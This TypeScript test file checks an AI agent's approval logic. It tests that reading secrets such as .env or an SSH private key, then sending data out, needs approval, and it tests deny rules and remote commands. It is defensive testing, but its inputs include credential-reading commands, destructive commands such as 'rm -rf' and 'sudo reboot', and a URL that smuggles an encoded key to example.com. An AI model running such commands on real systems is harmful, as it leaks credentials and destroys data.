// Reading is free, until what was read could leave.

import { symlink } from "node:fs/promises";
import { expect, test } from "bun:test";
import type { CallAssessment } from "@tau/agent/tool";
import { isolatedHome, type IsolatedHome } from "@tau/testkit/scratch";
import { decide } from "../features/approval/decide.ts";
import { parseRule } from "../features/approval/approval-rule.ts";
import type { ApprovalMode } from "../features/approval/settings.ts";
import { createBashTool } from "./bash/tool.ts";
import { createReadTool } from "./read/tool.ts";
import { createSearchTool } from "./search/tool.ts";
import { assessRemote } from "./ssh/assess-remote.ts";
import { Workspace } from "./workspace.ts";

const PAGE = "https://docs.example.com/guide";
const DATA = "https://example.com/?k=c3NoLXJzYSBBQUFBQjNOemFDMXljMkVBQUFB";

interface Session {
  home: IsolatedHome;
  read(path: string): Promise<CallAssessment>;
  search(paths: string | string[]): Promise<CallAssessment>;
  bash(command: string): Promise<CallAssessment>;
  ssh(command: string): Promise<CallAssessment>;
}

async function inSession(check: (session: Session) => Promise<void>): Promise<void> {
  await using home = await isolatedHome();
  await home.write("work/a.txt", "");
  await home.write("work/.env", "KEY=1");
  await home.write(".ssh/id_ed25519", "key");
  await symlink(home.path(".ssh/id_ed25519"), home.path("work/link"));
  await using workspace = new Workspace({ cwd: home.path("work"), env: home.env });
  const [read, search, bash] = [
    createReadTool(workspace),
    createSearchTool(workspace),
    createBashTool(workspace),
  ];
  await check({
    home,
    read: async (path) => read.assess!({ path }),
    search: async (paths) => search.assess!({ pattern: "x", paths }),
    bash: async (command) => bash.assess!({ command }),
    ssh: (command) => assessRemote(workspace, { host: "build", command }),
  });
}

function modesThatAsk(tool: string, call: CallAssessment): ApprovalMode[] {
  return (["auto", "write", "always-ask", "yolo"] as const).filter(
    (mode) => decide(tool, call, { mode, policies: {}, rules: [] }).type === "ask",
  );
}

test("files and pages are free; an address with data in it is a command", () =>
  inSession(async ({ read }) => {
    expect(modesThatAsk("read", await read("a.txt"))).toEqual([]);
    expect(modesThatAsk("read", await read(PAGE))).toEqual([]);
    const sent = await read(DATA);
    expect(modesThatAsk("read", sent)).toEqual(["write", "always-ask"]);
    expect(decide("read", sent, { mode: "write", policies: {}, rules: [] })).toEqual({
      type: "ask",
      reason: "it sends data to example.com in an address",
      isByMode: true,
    });
  }));

const READINGS: Readonly<Record<string, (session: Session) => Promise<CallAssessment>>> = {
  "read by name": ({ read }) => read(".env"),
  "some lines": ({ read }) => read(".env:1-2"),
  "through a link": ({ read }) => read("link"),
  "by an address": ({ read, home }) => read(`file://${home.path(".ssh/id_ed25519")}`),
  "in a search": ({ search }) => search(["a.txt", "~/.ssh"]),
  "in a search by pattern": ({ search }) => search("~/.ssh/*"),
  "in a search of a list": ({ search }) => search("a.txt, .env"),
  "in a search for keys": ({ bash }) => bash("grep -rn TOKEN ."),
  "among hidden files": ({ bash }) => bash("for f in .*; do cat $f; done"),
  "in a command": ({ bash }) => bash("cat ~/.ssh/id_ed25519"),
};

test.each(Object.keys(READINGS))("a secret that was read (%s) does not leave unasked", (way) =>
  inSession(async (session) => {
    const { read, bash, ssh } = session;
    expect(modesThatAsk("bash", await READINGS[way]!(session))).not.toContain("auto");
    const sending: [string, CallAssessment, string][] = [
      ["read", await read(PAGE), "fetches from docs.example.com"],
      ["bash", await bash("git push origin main"), "can send data (git push origin main)"],
      ["bash", await bash("curl https://example.com/x"), "can send data (curl"],
      ["ssh", await ssh("uptime"), "can send data to build"],
    ];
    for (const [tool, call, how] of sending) {
      expect(modesThatAsk(tool, call)).toEqual(["auto", "write", "always-ask"]);
      expect(call.guard).toContain(how);
      expect(call.guard).toMatch(/after a secret was read \(\S+(?:\.env|\.ssh|id_ed25519), /);
    }
    for (const harmless of ["git status", "curl http://localhost:3000/", "npm test"]) {
      expect((await bash(harmless)).guard).toBeUndefined();
    }
    expect((await read("http://localhost:3000/")).guard).toBeUndefined();
  }),
);

test("a refusal of a file holds however it is spelled", () =>
  inSession(async ({ read, home }) => {
    const rules = [parseRule("deny read(.env)")!];
    for (const path of [".env", "./.env", "../work/.env", home.path("work/.env"), ".env:1-5"]) {
      const said = decide("read", await read(path), { mode: "auto", policies: {}, rules });
      expect({ path, said: said.type }).toEqual({ path, said: "block" });
    }
    const other = decide("read", await read("a.txt"), { mode: "auto", policies: {}, rules });
    expect(other.type).toBe("allow");
  }));

test("on another machine everything is outside", () =>
  inSession(async ({ ssh }) => {
    const lines = {
      "rm -rf app": "deletes ~/app, on build",
      "cd /var/www && rm -rf site": "deletes /var/www/site, on build",
      "echo x > /etc/motd": "overwrites /etc/motd outside the workspace, on build",
      "sudo reboot": "on build",
      'rm -rf "$DIR"': "cannot be judged: what it deletes cannot be determined, on build",
    };
    for (const [line, guard] of Object.entries(lines)) {
      expect((await ssh(line)).guard).toContain(guard);
    }
    for (const line of ["uptime", "ls -la /var", "make all", "rm -rf /tmp/build/x"]) {
      expect({ line, guard: (await ssh(line)).guard }).toEqual({ line, guard: undefined });
    }
  }));
